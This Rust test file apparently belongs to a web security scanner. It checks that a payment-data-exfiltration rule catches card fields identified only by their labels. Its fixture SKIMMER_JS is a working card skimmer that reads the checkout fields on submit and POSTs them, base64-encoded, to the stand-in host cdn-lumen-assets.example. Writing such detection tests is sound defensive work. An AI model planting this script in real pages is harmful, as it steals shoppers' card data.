//! Issue 7 ("never silently clean"): card fields known only by their label. The page model
//! knew `<label for="f3">Card number</label><input id="f3">` is a card field, but the engine
//! judged `getElementById('f3')` by the id alone — no payment word in `f3` — so a skimmer
//! reading it and posting it out was not "payment data exfiltration". Each test here failed
//! that way before the page's field ids reached the engine.

mod common;
use common::*;

fn checkout(labels: [&str; 3], extra: &str) -> String {
    format!(
        r#"<!doctype html><html><head><meta charset="utf-8"><title>Secure checkout · Lumen Lighting</title>
<script src="/assets/checkout.js"></script>{extra}</head><body>
<form id="pay" action="/orders" method="post">
  <div class="row"><label for="f3">{}</label><input id="f3" name="f3" type="text"></div>
  <div class="row"><label for="f4">{}</label><input id="f4" name="f4" type="text"></div>
  <div class="row"><label for="f5">{}</label><input id="f5" name="f5" type="text"></div>
  <button>Complete order</button>
</form></body></html>"#,
        labels[0], labels[1], labels[2]
    )
}

/// Reads the fields by their meaningless ids and sends them to a collector.
const SKIMMER_JS: &str = r#"document.addEventListener('DOMContentLoaded', function () {
  document.getElementById('pay').addEventListener('submit', function () {
    var payload = [
      document.getElementById('f3').value,
      document.querySelector('#f4').value,
      document.getElementsByName('f5')[0].value
    ].join(';');
    fetch('https://cdn-lumen-assets.example/v', { method: 'POST', mode: 'no-cors', body: btoa(payload) });
  });
});
"#;

fn scan_served(page: &str) -> (i32, serde_json::Value, String) {
    let s = serve(vec![
        ("/checkout", html(page)),
        ("/assets/checkout.js", js(SKIMMER_JS)),
    ]);
    scan_json(&[
        "--resolve",
        &s.resolve("shop.test"),
        &s.url("shop.test", "/checkout"),
    ])
}

fn exfiltration(report: &serde_json::Value) -> Vec<&serde_json::Value> {
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "payment-data-exfiltration")
        .collect()
}

#[test]
fn english_labels_make_the_ids_card_fields_for_the_engine() {
    let (code, report, stderr) = scan_served(&checkout(
        ["Card number", "Expiry date", "Security code"],
        "",
    ));
    assert_eq!(report["pages"][0]["payment_form"], true, "{report:#}");
    assert_eq!(code, 1, "{stderr}\n{report:#}");
    let found = exfiltration(&report);
    assert!(
        found
            .iter()
            .any(|f| f["severity"] == "critical" && f["hosts"][0] == "cdn-lumen-assets.example"),
        "{report:#}"
    );
}

#[test]
fn japanese_labels_make_the_ids_card_fields_for_the_engine() {
    let dir = tempfile::tempdir().unwrap();
    let site = dir.path().join("dist");
    write_file(
        &site,
        "checkout.html",
        checkout(["カード番号", "有効期限", "セキュリティコード"], ""),
    );
    write_file(&site, "assets/checkout.js", SKIMMER_JS);
    let (code, report, stderr) = scan_json(&[site.to_str().unwrap()]);
    assert_eq!(code, 1, "{stderr}\n{report:#}");
    assert!(!exfiltration(&report).is_empty(), "{report:#}");
}

#[test]
fn the_same_ids_are_not_card_fields_where_their_labels_say_otherwise() {
    // A newsletter form with the same field ids: reading them is not reading card data.
    let page = checkout(["Email", "First name", "Postcode"], "");
    let (_, report, stderr) = scan_served(&page);
    assert_eq!(report["pages"][0]["payment_form"], false, "{report:#}");
    assert!(exfiltration(&report).is_empty(), "{stderr}\n{report:#}");
}
